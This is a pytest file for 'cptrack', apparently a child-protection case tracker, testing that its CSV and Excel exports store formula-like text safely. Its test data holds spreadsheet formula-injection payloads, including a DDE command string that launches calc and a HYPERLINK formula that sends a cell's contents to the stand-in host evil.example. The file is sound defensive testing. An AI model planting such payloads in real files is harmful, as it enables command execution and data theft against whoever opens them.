"""No file cptrack writes holds a live formula: text typed or imported that a spreadsheet would
read as one is stored as text in every CSV and workbook (check, escalations, validate and
import reports, Annex A, the report workbooks), while numbers and dates stay numbers and
dates."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from cptrack.cli import main
from cptrack.demo import synthetic as demo
from cptrack.domain.models import today
from cptrack.interchange import safe_cells
from cptrack.storage.store import Store

HOSTILE = (
    "=1+2",
    "+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "-2+3",
    '=HYPERLINK("http://evil.example/?"&A3,"Click")',
    "\t=1+2",
    "\r=1+2",
)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> str:
    """A small demo whose social workers, escalations and plan actions hold formulas."""
    path = tmp_path_factory.mktemp("hostile") / "demo.sqlite"
    with Store.open(str(path), migrate=True) as store:
        demo.populate(store, children=30, seed=3, as_of=today())
        with store.transaction() as tx:
            for n, kid in enumerate(store.rows("children")):
                text = HOSTILE[n % len(HOSTILE)]
                tx.update("children", kid["id"], {"social_worker": text}, kid["version"])
            for n, e in enumerate(store.rows("escalations")):
                text = HOSTILE[n % len(HOSTILE)]
                tx.update(
                    "escalations",
                    e["id"],
                    {"raised_with": text, "reason": text + " why", "outcome": text},
                    e["version"],
                )
    return str(path)


def csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_csv_safe(text: str) -> None:
    """Every cell is safe, and the hostile texts are there behind a quote."""
    cells = csv_cells(text)
    live = [c for c in cells if safe_cells.risky(c)]
    assert [] == live
    found = {c[1:] for c in cells if c.startswith("'")}
    assert found & set(HOSTILE), "the hostile text went through this export"


def assert_xlsx_safe(path: Path) -> list:
    """No formula in the file; the hostile texts are string cells. Returns every cell."""
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets), "no cell is a formula"
    cells = [c for ws in openpyxl.load_workbook(path) for row in ws.iter_rows() for c in row]
    assert [] == [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if c.value in HOSTILE]
    assert hostile, "the hostile text went through this export"
    assert {"s"} == {c.data_type for c in hostile}
    return cells


def test_check_csv_holds_no_formula(hostile_db, tmp_path, capsys):
    """`cptrack check --format csv`: a profile's rule text that reads as a formula is quoted."""
    profile = tmp_path / "mine.toml"
    profile.write_text(
        'extends = "national"\n[authority]\nname = "Mine"\n'
        '[[rules]]\nid = "review_within_6m"\n'
        'text = "=HYPERLINK(\\"http://evil.example/\\",\\"Click\\")"\n'
    )
    assert 0 == main(["check", "--db", hostile_db, "--profile", str(profile), "--format", "csv"])
    text = capsys.readouterr().out
    assert [] == [c for c in csv_cells(text) if safe_cells.risky(c)]
    assert '\'=HYPERLINK("http://evil.example/","Click")' in csv_cells(text)


def test_escalations_csv_holds_no_formula(hostile_db, capsys):
    """`cptrack escalations --format csv`: who it was raised with, the reason, the outcome."""
    assert 0 == main(["escalations", "--db", hostile_db, "--format", "csv"])
    assert_csv_safe(capsys.readouterr().out)


def test_annex_a_workbook_and_csv_hold_no_formula(hostile_db, tmp_path):
    """Annex A as .xlsx (both lists) and as .csv (each list): text, dates and numbers."""
    book = tmp_path / "annex.xlsx"
    assert 0 == main(
        [
            "export",
            "annex-a",
            "--db",
            hostile_db,
            "--out",
            str(book),
            "--reference-date",
            str(today()),
        ]
    )
    cells = assert_xlsx_safe(book)
    assert any(isinstance(c.value, dt.datetime) for c in cells), "dates stay dates"
    assert any(isinstance(c.value, int) for c in cells), "numbers stay numbers"
    for number in (5, 7):
        out = tmp_path / f"list{number}.csv"
        assert 0 == main(
            [
                "export",
                "annex-a",
                "--db",
                hostile_db,
                "--out",
                str(out),
                "--reference-date",
                str(today()),
                "--list",
                str(number),
            ]
        )
        assert_csv_safe(out.read_text(encoding="utf-8-sig"))


def test_report_workbook_holds_no_formula(hostile_db, tmp_path):
    """`cptrack report chair_caseload --to xlsx`, plain and pseudonymised."""
    for extra in ([], ["--pseudonymise", "--include-free-text"]):
        out = tmp_path / f"caseload{len(extra)}.xlsx"
        assert 0 == main(
            [
                "report",
                "chair_caseload",
                "--db",
                hostile_db,
                "--to",
                "xlsx",
                "--out",
                str(out),
                *extra,
            ]
        )
        with zipfile.ZipFile(out) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in s or "<f " in s for s in sheets)
    assert_xlsx_safe(tmp_path / "caseload0.xlsx")


def test_validate_csv_holds_no_formula(tmp_path, capsys):
    """`cptrack validate annex-a --format csv` on a list whose cells are formulas."""
    from cptrack.interchange.imports.annex_a_lists import LIST_7

    headings = [c.headings[0] for c in LIST_7]
    rows = [[text] + ["=1+2"] * (len(headings) - 1) for text in HOSTILE]
    path = tmp_path / "list7.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(headings)
        writer.writerows(rows)
    main(["validate", "annex-a", str(path), "--format", "csv", "--reference-date", str(today())])
    assert_csv_safe(capsys.readouterr().out)


def test_numbers_and_dates_stay_what_they_are(tmp_path):
    """A negative number, a number typed as text, a date: none is quoted or turned to text."""
    frame = pd.DataFrame(
        {
            "n": [-5, 3],
            "x": [-1.5, 2.0],
            "t": ["-5", "=A1"],
            "d": pd.to_datetime(["2026-01-02", None]),
        }
    )
    assert ["n", "x", "t", "d", "-5", "-1.5", "-5", "2026-01-02", "3", "2.0", "'=A1", ""] == (
        csv_cells(safe_cells.frame_to_csv(frame, index=False))
    )
    book = openpyxl.Workbook()
    ws = book.active
    values = [-5, -1.5, dt.date(2026, 1, 2), "=A1", "-", "plain"]
    for j, value in enumerate(values, 1):
        safe_cells.xlsx_set(ws.cell(row=1, column=j), value)
    book.save(tmp_path / "x.xlsx")
    back = list(openpyxl.load_workbook(tmp_path / "x.xlsx").active[1])
    assert [-5, -1.5, dt.datetime(2026, 1, 2), "=A1", "-", "plain"] == [c.value for c in back]
    assert ["n", "n", "d", "s", "s", "s"] == [c.data_type for c in back]
